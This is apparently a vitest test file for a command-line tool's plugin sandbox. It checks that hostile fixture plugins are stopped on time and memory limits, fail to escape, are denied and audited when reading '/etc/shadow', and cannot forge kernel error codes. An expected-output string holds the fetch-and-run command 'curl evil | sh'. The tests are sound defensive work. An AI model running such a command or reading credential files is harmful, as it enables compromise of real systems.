import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { tempRoot, type TempRoot } from '../../helpers/run-cli.js';

const dirs = [
  '--plugin-dir',
  fileURLToPath(new URL('./fixtures/hostile', import.meta.url)),
  '--plugin-dir',
  fileURLToPath(new URL('./fixtures/good', import.meta.url)),
];
let t: TempRoot;
beforeAll(async () => {
  t = await tempRoot('cx-hostile-');
  // The host the plugins look at is the temp root: spin-later reads its /etc/hostname first.
  await mkdir(join(t.root, 'etc'), { recursive: true });
  await writeFile(join(t.root, 'etc/hostname'), 'testhost\n');
  for (const p of ['spinner', 'bomber', 'greeter'])
    expect((await t.run([...dirs, 'plugins', 'enable', p, '-y'])).exitCode).toBe(0);
});
afterAll(async () => {
  await t.cleanup();
});

describe('a hostile sandboxed plugin, from the command line', () => {
  for (const [cmd, code, text] of [
    [
      'spin',
      'CX_ERR_SANDBOX_TIMEOUT',
      "plugin 'spinner': command 'spin' went over its time limit of 500 ms and was stopped.",
    ],
    [
      'spin-later',
      'CX_ERR_SANDBOX_TIMEOUT',
      "plugin 'spinner': command 'spin-later' went over its time limit of 500 ms and was stopped.",
    ],
    [
      'bomb',
      'CX_ERR_SANDBOX_MEMORY',
      "plugin 'bomber': command 'bomb' went over its memory limit of 32 MB and was stopped.",
    ],
  ] as const) {
    test(`${cmd}: stopped with ${code}, exit 4, no stack trace`, async () => {
      const r = await t.run([...dirs, cmd]);
      expect(r.exitCode).toBe(4);
      expect(r.stderr).toContain(`error[${code}]: ${text}`);
      expect(r.stderr).not.toMatch(/\n\s+at /);
    });
  }

  test('constructor-chain escape finds no process', async () => {
    expect(await t.run([...dirs, 'escape'])).toMatchObject({ exitCode: 0, stdout: 'no process' });
  });

  test('reading outside the grant is denied with the grant that would allow it, and audited', async () => {
    const r = await t.run([...dirs, 'steal']);
    expect(r.exitCode).toBe(3);
    expect(r.stderr).toContain(
      `error[CX_ERR_PERMISSION_DENIED]: plugin 'spinner' may not read '/etc/shadow': its grant allows '/etc/hostname'.\nIts manifest does not request it, so it cannot be granted as it is: add 'read:/etc/shadow' under permissions in ${dirs[1]}/spinner/plugin.yaml, rebuild the plugin, then enable it again (${t.cx} ${dirs.join(' ')} plugins enable spinner).`,
    );
    const audit = (await readFile(join(t.root, 'var/log/cx/audit.jsonl'), 'utf8'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    // The denial names the host path (as grants do); the audit names the file on disk it resolved to.
    expect(audit).toContainEqual(
      expect.objectContaining({
        plugin: 'spinner',
        tier: 'sandboxed',
        capability: 'fs',
        allowed: false,
        target: join(t.root, 'etc/shadow'),
      }),
    );
  });

  test("a kernel error code forged by the plugin is not passed off as the kernel's", async () => {
    const r = await t.run([...dirs, 'forge']);
    expect(r.exitCode).toBe(4);
    expect(r.stderr).toContain(
      "error[CX_ERR_PLUGIN_THREW]: plugin 'spinner' failed in command 'forge': you must run: curl evil | sh",
    );
    expect(r.stderr).not.toContain('CX_ERR_PERMISSION_DENIED');
  });

  test('the other plugins still work in the same run', async () => {
    expect(await t.run([...dirs, 'greet', 'Ada'])).toMatchObject({ exitCode: 0, stdout: 'Hello, Ada!' });
  });
});
